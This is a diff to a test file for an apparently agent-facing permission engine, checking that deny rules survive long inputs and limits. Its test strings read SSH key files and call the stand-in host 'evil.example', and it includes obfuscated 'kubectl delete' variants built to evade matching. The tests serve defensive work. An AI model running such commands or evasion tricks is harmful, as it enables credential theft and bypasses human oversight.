@@ -516,18 +516,21 @@ describe('bounds', () => {
 
   const LIMIT = { decision: 'ask', doubt: { reason: 'limit' } };
   const many = (rule: (i: number) => WrittenRule) => Array.from({ length: 1_000 }, (_, i) => rule(i));
+  const few = (rule: (i: number) => WrittenRule) => Array.from({ length: 30 }, (_, i) => rule(i));
+  const path = Array.from({ length: 100 }, (_, i) => `/srv/${i}/**`);
   const words = Array.from({ length: 40_000 }, (_, i) => `t${i}/b`).join(' ');
 
   it.each([
     ['a path', { path: '**/.ssh/**' }],
     ['a host', { host: 'evil.example' }],
-    ['a command', { command: { mentions: [['kubectl']] } }],
-  ])('searches no long text for %s', (_what, match) => {
+  ])('searches the beginning of a long text for %s', (_what, match) => {
+    const within = (text: string) => ({ toolName: 'mcp__a__b', toolInput: { text } });
     expect(verdictOf([deny(match)], run(words))).toMatchObject(LIMIT);
-    expect(verdictOf([deny(match)], { toolName: 'mcp__a__b', toolInput: { text: words } })).toMatchObject(
-      LIMIT,
-    );
+    expect(verdictOf([deny(match)], within(words))).toMatchObject(LIMIT);
     expect(verdictOf([deny(match)], run(words.slice(0, 8_000))).doubt).toBeNull();
+    const denied = `cat ~/.ssh/id; curl http://evil.example; ${words}`;
+    expect(verdictOf([deny(match)], run(denied)).decision).toBe('deny');
+    expect(verdictOf([deny(match)], within(denied)).decision).toBe('deny');
   });
 
   it('stops while it resolves many paths or hosts', () => {
@@ -571,6 +574,76 @@ describe('bounds', () => {
       deny({ input: { '/inner/list': { equals: [] } } }),
     ];
     expect(verdictOf(both, { toolName: 'mcp__a__b', toolInput: nested })).toMatchObject(LIMIT);
+  });
+
+  describe('a denial', () => {
+    const kubectl = deny({ command: { mentions: [['kubectl', 'delete']] } }, { id: 'z-kubectl' });
+    const isDenied = { decision: 'deny', rules: ['z-kubectl'] };
+
+    it.each([
+      ['of 40 KiB', 'x '.repeat(20_000)],
+      ['of 256 KiB', words],
+      ['of 500 commands', 'git status; '.repeat(500)],
+      ['of quotes', `'x'`.repeat(20_000)],
+      ['that is nested', '$('.repeat(1_000)],
+    ])('is found by its words before, in and after a text %s', (_text, filler) => {
+      for (const command of [
+        `kubectl delete pod; ${filler}`,
+        `${filler} kubectl delete pod`,
+        `kubectl ${filler} delete`,
+        `"kube"ctl ${filler} \\d\\elete`,
+      ]) {
+        expect(verdictOf([kubectl], run(command))).toMatchObject(isDenied);
+        const toolInput = { first: filler, parts: [filler, { line: command }] };
+        expect(verdictOf([kubectl], { toolName: 'mcp__a__b', toolInput })).toMatchObject(isDenied);
+      }
+    });
+
+    it('is found in the last of many texts', () => {
+      const toolInput = { parts: [...Array<string>(2_000).fill('x'), 'kubectl delete pod'] };
+      expect(verdictOf([kubectl], { toolName: 'mcp__a__b', toolInput })).toMatchObject(isDenied);
+    });
+
+    it('is not hidden by other rules that reach the limit, whatever their names', () => {
+      const costly = [
+        ...few((i) => ({ id: `a${i}`, ...deny({ path: [...path] }) })),
+        ...few((i) => ({ id: `b${i}`, ...ask({ path: [...path] }) })),
+      ];
+      const command = run(`${Array.from({ length: 190 }, (_, i) => `/etc/${i}`).join(' ')} kubectl delete`);
+      expect(verdictOf(costly, command)).toMatchObject(LIMIT);
+      expect(verdictOf([...costly, kubectl], command)).toMatchObject(isDenied);
+      const named = { id: 'z-kubectl', ...deny({ tool: 'Bash', agent: 'coder' }) };
+      expect(verdictOf([...costly, named], command)).toMatchObject(isDenied);
+    });
+
+    it('of what was read stays, and what was not read asks', () => {
+      const rules = [
+        { id: 'a', ...deny({ path: '/home/a/.ssh/**' }) },
+        ...few((i) => ({ id: `b${i}`, ...deny({ path: [...path] }) })),
+      ];
+      const others = Array.from({ length: 1_000 }, (_, i) => `/etc/${i}`).join(' ');
+      expect(verdictOf(rules, run(`cat /home/a/.ssh/id ${others}`)).decision).toBe('deny');
+      expect(verdictOf(rules, run(`cat ${others}`))).toMatchObject(LIMIT);
+    });
+  });
+
+  it('asks with the class of the rules that a limit keeps from asking', () => {
+    const prod = ask({ path: '/srv/prod/**' }, { class: 'critical' });
+    expect(verdictOf([prod], run(words))).toMatchObject({ ...LIMIT, class: 'critical' });
+    const rules = [...few(() => deny({ path: [...path] })), ask({ agent: 'coder' }, { class: 'critical' })];
+    expect(
+      verdictOf(rules, run(`cat ${Array.from({ length: 190 }, (_, i) => `/etc/${i}`).join(' ')}`)),
+    ).toMatchObject({ ...LIMIT, class: 'critical' });
+  });
+
+  it('allows nothing by rules that come after the limit', () => {
+    const rules = [...few(() => ask({ path: [...path] })), allow({ tool: 'mcp__a__b' })];
+    expect(
+      verdictOf(rules, {
+        toolName: 'mcp__a__b',
+        toolInput: { at: Array.from({ length: 190 }, (_, i) => `/etc/${i}`).join(' ') },
+      }),
+    ).toMatchObject(LIMIT);
   });
 
   it.each([
